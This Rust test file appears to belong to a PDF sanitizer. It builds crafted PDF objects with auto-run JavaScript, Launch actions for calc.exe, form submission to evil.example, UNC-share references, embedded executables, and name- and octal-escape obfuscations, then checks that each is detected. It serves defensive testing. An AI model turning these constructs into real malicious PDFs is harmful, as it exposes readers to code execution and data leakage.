//! The danger matrix: what runs, leads or carries (PDF-A01 to A10).

use super::build::{Doc, utf16};
use super::cases::{CALC, annot, cases, field, packed, plain, talk};
use crate::matrix::{Case, Expect, Shape};

const FORM: &str = "/Type/XObject/Subtype/Form/BBox[0 0 80 80]";
const CARRIED: &[u8] = b"MZ-evil-payload";

fn spec(doc: Doc) -> Doc {
    doc.object(8, "<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 9 0 R/UF 9 0 R>>>>").stream(
        9,
        "/Type/EmbeddedFile",
        CARRIED,
    )
}

fn form_with(keys: &str) -> Doc {
    Doc::new().resources("/XObject<</X0 7 0 R>>").content("/X0 Do").stream(7, &format!("{FORM}{keys}"), b"1 2 3 4 re f")
}

fn picture_with(keys: &str) -> Doc {
    Doc::new().resources("/XObject<</X0 7 0 R>>").content("/X0 Do").stream(
        7,
        &format!("/Type/XObject/Subtype/Image/Width 2/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray{keys}"),
        b"ab",
    )
}

cases! {
    "PDF-A01" Plain "a script on opening" => Expect::Reported("pdf.open-action"), plain(&Doc::new().catalog(&format!("/OpenAction<</S/JavaScript/JS({CALC})>>")), &["OpenAction", "evil.example"], &[]);
    "PDF-A01" Disguised "a program behind references, in an object stream" => Expect::Reported("pdf.open-action"), packed(&Doc::new().catalog("/Open#41ction 6 0 R").object(6, "<</S 7 0 R/F(calc.exe)>>").object(7, "/L#61unch"), &["OpenAction", "calc.exe", "Launch"], &[]);
    "PDF-A01" Disguised "a place in the document with a second action behind" => Expect::Silent, plain(&Doc::new().catalog(&format!("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS({CALC})>>>>")), &["JavaScript", "evil.example", "/Next"], &["/OpenAction[", "/Fit"]);
    "PDF-A01" Disguised "a destination that is an action" => Expect::Reported("pdf.open-action"), plain(&Doc::new().catalog(&format!("/OpenAction<</D[3 0 R/Fit]/S/JavaScript/JS({CALC})>>")), &["JavaScript", "evil.example"], &[]);
    "PDF-A01" Neighbour "a place to open at" => Expect::Untouched, plain(&Doc::new().catalog("/OpenAction[3 0 R/XYZ 0 800 2]"), &[], &["/OpenAction[", "/XYZ 0 800 2"]);
    "PDF-A01" Neighbour "an action that opens at a place" => Expect::Untouched, plain(&Doc::new().catalog("/OpenAction<</S/GoTo/D[3 0 R/FitH 800]>>"), &[], &["/OpenAction[", "/FitH 800"]);
    "PDF-A02" Plain "scripts of the document and the page" => Expect::Reported("pdf.additional-action"), plain(&Doc::new().catalog(&format!("/AA<</WC<</S/JavaScript/JS({CALC})>>>>")).page(&format!("/AA<</O<</S/JavaScript/JS({CALC})>>>>")), &["/AA", "evil.example"], &[]);
    "PDF-A02" Disguised "on a field, through its parent, in an object stream" => Expect::Reported("pdf.additional-action"), packed(&Doc::new().catalog("/AcroForm<</Fields[7 0 R]>>").page("/Annots[6 0 R]").object(6, "<</Subtype/Widget/Rect[1 1 9 9]/Parent 7 0 R>>").object(7, &format!("<</FT/Tx/T(name)/V(Yamada)/Kids[6 0 R]/#41#41<</K<</S/JavaScript/JS({CALC})>>>>>>")), &["/AA", "evil.example"], &["(Yamada)"]);
    "PDF-A02" Neighbour "a colour space whose name begins alike" => Expect::Silent, plain(&Doc::new().resources("/ColorSpace<</AAb/DeviceGray>>").content("/AAb cs 0 scn"), &[], &["/AAb"]);
    "PDF-A03" Plain "a program" => Expect::Reported("pdf.launch"), plain(&Doc::new().link("/A<</S/Launch/F(calc.exe)/Win<</F(calc.exe)/P(/c dir)>>>>"), &["Launch", "calc.exe"], &["/Subtype/Link"]);
    "PDF-A03" Disguised "a program, behind a link that may stay" => Expect::Reported("pdf.launch"), plain(&Doc::new().link("/A<</S/URI/URI(https://www.city.example.jp/)/Next[<</#53/Laun#63h/F(calc.exe)>>]>>"), &["Launch", "calc.exe", "/Next"], &["https:"]);
    "PDF-A03" Disguised "another document on a server" => Expect::Reported("pdf.remote-goto"), plain(&Doc::new().link("/A<</S/GoToR/F<</FS/URL/F(\\\\\\\\evil.example\\\\x.pdf)>>/D[0/Fit]>>"), &["GoToR", "evil.example"], &["/Subtype/Link"]);
    "PDF-A03" Disguised "a kind of action that nobody knows" => Expect::Silent, plain(&Doc::new().link("/A<</S/javascript/JS(evil-js)>>"), &["javascript", "evil-js"], &["/Subtype/Link"]);
    "PDF-A03" Neighbour "a button that turns the page" => Expect::Untouched, plain(&Doc::new().link("/A<</S/Named/N/NextPage>>"), &[], &["/NextPage"]);
    "PDF-A03" Neighbour "a link within the document" => Expect::Untouched, plain(&Doc::new().link("/A<</S/GoTo/D[3 0 R/FitR 1 2 3 4]>>"), &[], &["/Dest[", "/FitR 1 2 3 4"]);
    "PDF-A04" Plain "a link to a file" => Expect::Reported("pdf.link"), plain(&Doc::new().link("/A<</S/URI/URI(file:///c:/windows/calc.exe)>>"), &["calc.exe", "/URI"], &["/Subtype/Link"]);
    "PDF-A04" Disguised "a script in UTF-16 with a tab in its scheme" => Expect::Reported("pdf.link"), plain(&Doc::new().link("/A<</S/URI/URI<FEFF006A0061007600610009007300630072006900700074003A0078>>>"), &["/URI"], &["/Subtype/Link"]);
    "PDF-A04" Disguised "a share, in octal escapes" => Expect::Reported("pdf.link"), plain(&Doc::new().link("/A<</S/URI/URI(\\134\\134evil.example\\134x)>>"), &["evil.example", "/URI"], &["/Subtype/Link"]);
    "PDF-A04" Disguised "a base that makes links of all that is relative" => Expect::Silent, plain(&Doc::new().catalog("/URI<</Base(http://evil.example/)>>").link("/Dest[3 0 R/Fit]"), &["evil.example", "/URI"], &["/Subtype/Link"]);
    "PDF-A04" Neighbour "a link to a web page" => Expect::Untouched, plain(&Doc::new().link("/A<</S/URI/URI(https://www.city.example.jp/a?b=c)>>"), &[], &["https://www.city.example.jp/a?b=c"]);
    "PDF-A05" Plain "a script with a name" => Expect::Reported("pdf.javascript"), plain(&Doc::new().catalog(&format!("/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS({CALC})>>]>>>>")), &["JavaScript", "evil.example"], &[]);
    "PDF-A05" Disguised "a tree in an object stream" => Expect::Reported("pdf.javascript"), packed(&Doc::new().catalog("/Names 6 0 R").object(6, "<</Java#53cript 7 0 R>>").object(7, "<</Kids[8 0 R]>>").object(8, &format!("<</Names[(a)<</S/JavaScript/JS({CALC})>>]>>")), &["JavaScript", "evil.example", "/Names"], &[]);
    "PDF-A05" Disguised "a page that only a script can show" => Expect::Reported("pdf.hidden-page"), plain(&Doc::new().catalog("/Names<</Templates<</Names[(t)6 0 R]>>>>").object(6, "<</Type/Template/Contents 7 0 R>>").stream(7, "", b"(evil-template) Tj"), &["Template", "evil-template"], &[]);
    "PDF-A05" Neighbour "a place that is called JavaScript" => Expect::Untouched, plain(&Doc::new().catalog("/Names<</Dests<</Names[(JavaScript)[3 0 R/Fit]]>>>>").link("/Dest(JavaScript)"), &[], &["/Names[(JavaScript)"]);
    "PDF-A06" Plain "an attached file" => Expect::Reported("pdf.embedded-file"), plain(&spec(Doc::new().catalog("/Names<</EmbeddedFiles<</Names[(evil.exe)8 0 R]>>>>")), &["EmbeddedFile", "evil.exe", "MZ-evil", "Filespec"], &[]);
    "PDF-A06" Disguised "an associated file of an annotation, in an object stream" => Expect::Reported("pdf.embedded-file"), packed(&spec(annot("/Subtype/Text/Contents(note)/A#46[8 0 R]")), &["EmbeddedFile", "evil.exe", "MZ-evil", "/AF"], &["(note)"]);
    "PDF-A06" Disguised "a pin with a file" => Expect::Reported("pdf.file-attachment"), plain(&spec(annot("/Subtype/FileAttachment/Contents(see)/FS 8 0 R")), &["FileAttachment", "MZ-evil", "/FS"], &["/Subtype/Text"]);
    "PDF-A06" Neighbour "a note that names a file" => Expect::Untouched, plain(&annot("/Subtype/Text/Contents(evil.exe)/Name/Paperclip"), &[], &["(evil.exe)"]);
    "PDF-A07" Plain "a calculation, rich text and a script of a field" => Expect::Reported("pdf.javascript"), plain(&field("/CO[6 0 R]", &format!("/RV(<body>evil-rich</body>)/DS(font:evil)/AA<</C<</S/JavaScript/JS({CALC})>>>>")), &["/CO", "/RV", "/DS", "evil"], &["(Yamada)"]);
    "PDF-A07" Disguised "a button that sends the form" => Expect::Reported("pdf.submit-form"), packed(&Doc::new().catalog("/AcroForm<</Fields[6 0 R]>>").page("/Annots[6 0 R]").object(6, "<</Subtype/Widget/FT/Btn/Ff 65536/T(send)/Rect[10 10 60 30]/MK<</CA(OK)>>/A<</S 7 0 R/F(http://evil.example/)>>>>").object(7, "/Submit#46orm"), &["SubmitForm", "evil.example"], &["(send)", "(OK)"]);
    "PDF-A07" Neighbour "a field with a value" => Expect::Untouched, plain(&field("/NeedAppearances true", "/MaxLen 20/TU(help)"), &[], &["(Yamada)", "/MaxLen 20", "(help)"]);
    "PDF-A08" Plain "a screen that plays a film" => Expect::Reported("pdf.media"), plain(&annot("/Subtype/Screen/A<</S/Rendition/OP 0/R<</S/MR/C<</D(evil.mp4)>>>>>>"), &["Rendition", "evil.mp4", "Screen"], &[]);
    "PDF-A08" Disguised "a film whose picture stays" => Expect::Reported("pdf.rich-media"), packed(&annot("/Subtype/Rich#4dedia/RichMediaContent<</Assets<</Names[(x.swf)6 0 R]>>>>/AP<</N 7 0 R>>").stream(6, "/Type/EmbeddedFile", b"FWS-evil").stream(7, FORM, b"1 2 3 4 re f"), &["RichMedia", "FWS-evil"], &["/Subtype/Stamp", "1 2 3 4 re"]);
    "PDF-A08" Disguised "a kind in small letters" => Expect::Reported("pdf.annotation-kind"), plain(&annot("/Subtype/screen/A<</S/Launch/F(calc.exe)>>"), &["/screen", "calc.exe"], &[]);
    "PDF-A08" Neighbour "a marker" => Expect::Untouched, plain(&annot("/Subtype/Highlight/QuadPoints[1 1 2 1 1 2 2 2]/C[1 1 0]/Contents(here)"), &[], &["/Highlight", "(here)"]);
    "PDF-A09" Plain "a picture that lies on a server" => Expect::Reported("pdf.external-stream"), plain(&picture_with("/F(\\\\\\\\evil.example\\\\x)/FFilter/FlateDecode"), &["evil.example", "FFilter"], &["/X0 Do"]);
    "PDF-A09" Disguised "a form in a file, by a file specification" => Expect::Reported("pdf.external-stream"), plain(&form_with("/#46 6 0 R").object(6, "<</FS/URL/F(http://evil.example/x)>>"), &["evil.example"], &[]);
    "PDF-A09" Neighbour "an annotation's flags have the same name" => Expect::Untouched, plain(&annot("/Subtype/Text/F 28/Contents(note)"), &[], &["/F 28", "(note)"]);
    "PDF-A09" Neighbour "parameters for a file that is not named" => Expect::Silent, plain(&form_with("/FDecodeParms<</K 0>>"), &["FDecodeParms"], &["1 2 3 4 re"]);
    "PDF-A10" Plain "a page of another document" => Expect::Reported("pdf.foreign-object"), plain(&form_with("/Ref<</F(evil.pdf)/Page 0>>"), &["evil.pdf", "/Ref"], &["1 2 3 4 re"]);
    "PDF-A10" Disguised "PostScript as a form" => Expect::Silent, plain(&form_with("/Subtype2/PS/PS 6 0 R/Level1 6 0 R").stream(6, "", b"(calc.exe) run"), &["calc.exe", "/PS", "Level1"], &["1 2 3 4 re"]);
    "PDF-A10" Disguised "pictures kept elsewhere, and others in place of this one" => Expect::Reported("pdf.foreign-object"), packed(&picture_with("/O#50I<</2.0<</F(evil.eps)>>>>/Alternates[<</Image 6 0 R/DefaultForPrinting true>>]").stream(6, "", b"evil-alternate"), &["evil.eps", "/OPI", "evil-alternate", "Alternates"], &["/X0 Do"]);
    "PDF-A10" Neighbour "a form that is a group" => Expect::Untouched, plain(&form_with("/Group<</S/Transparency/I true>>"), &[], &["/Transparency", "1 2 3 4 re"]);
    "PDF-A10" Neighbour "a page that talks of PostScript" => Expect::Untouched, talk("/Subtype/PS /Ref /OPI");
    "PDF-A04" Neighbour "a link in letters of two bytes" => Expect::Silent, plain(&Doc::new().link(&format!("/A<</S/URI/URI{}>>", utf16("https://www.city.example.jp/"))), &[], &["https://www.city.example.jp/"]);
}
